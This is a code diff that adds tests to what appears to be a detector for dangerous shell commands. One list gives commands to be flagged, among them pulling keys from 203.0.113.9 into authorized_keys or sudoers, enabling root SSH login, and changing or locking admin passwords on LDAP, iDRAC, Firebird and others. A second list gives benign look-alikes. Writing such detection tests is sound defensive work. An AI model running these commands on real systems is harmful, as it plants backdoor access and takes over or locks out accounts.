@@ -159,3 +159,52 @@ def test_security_products_switched_off_or_blinded(command: str) -> None:
 ])
 def test_security_products_everyday_forms_stay_quiet(command: str) -> None:
     assert stays_quiet(command), judged(command)
+
+
+@each_form("command", [
+    "axel -o /root/.ssh/authorized_keys https://203.0.113.9/k.pub",
+    "lwp-download https://203.0.113.9/k.pub /home/deploy/.ssh/authorized_keys",
+    "aria2c -d /root/.ssh -o authorized_keys https://203.0.113.9/k.pub",
+    "gdown https://203.0.113.9/k -O /home/deploy/.ssh/authorized_keys",
+    "fetch -o /etc/sudoers https://203.0.113.9/s",
+    "wcurl -o /etc/sudoers.d/90-ops https://203.0.113.9/s",
+    "s5cmd cp s3://bucket/keys /root/.ssh/authorized_keys",
+    "comby -in-place 'PermitRootLogin no' 'PermitRootLogin yes' /etc/ssh/sshd_config",
+    "srgn --glob /etc/ssh/sshd_config 'PermitRootLogin no' -- 'PermitRootLogin yes'",
+    "htdigest -c /etc/apache2/.htdigest realm admin",
+    "ldappasswd -x -D cn=admin,dc=corp,dc=com -w pw -s NewPass1 uid=ceo,ou=people,dc=corp,dc=com",
+    "gsec -user SYSDBA -password old -modify SYSDBA -pw masterkey",
+    'ipmi-config -h bmc1 --commit --key-pair="User2:Password=calvin"',
+    "racadm set iDRAC.Users.2.Password calvin",
+    "pveum passwd root@pam",
+    "ipa passwd admin",
+    "emqx_ctl admins passwd admin hunter2",
+    "dscl . -passwd /Users/admin hunter2",
+    "lusermod -L root",
+    "pw lock root",
+    "samba-tool user disable Administrator",
+    "ipa user-disable admin",
+])
+def test_credentials_of_others_set_or_replaced(command: str) -> None:
+    assert reaches(command), judged(command)
+
+
+@each_form("command", [
+    "axel -o /tmp/k.pub https://203.0.113.9/k.pub",
+    "lwp-download https://example.com/file.tar.gz /tmp/file.tar.gz",
+    "aria2c -d /tmp -o authorized_keys.bak https://example.com/keys",
+    "s5cmd cp s3://bucket/backup.tgz /tmp/",
+    "comby -in-place 'foo(:[x])' 'bar(:[x])' src/main.go",
+    "comby -in-place 'PermitRootLogin yes' 'PermitRootLogin no' /etc/ssh/sshd_config",
+    "htdigest /etc/apache2/.htdigest realm bob",
+    "grub2-mkpasswd-pbkdf2 -c 100000 -s 64",
+    "ldappasswd -x -H ldap://ldap.example.com -D uid=me,ou=people,dc=example,dc=com -W -S",
+    "gsec -user SYSDBA -password masterkey -display",
+    "ipa user-show admin",
+    "pw lock bob",
+    "ipa user-disable bob",
+    "diff /etc/ssh/sshd_config /etc/ssh/sshd_config.bak",
+    "sudo visudo -cf /etc/sudoers.d/90-ops",
+])
+def test_credentials_everyday_forms_stay_quiet(command: str) -> None:
+    assert stays_quiet(command), judged(command)
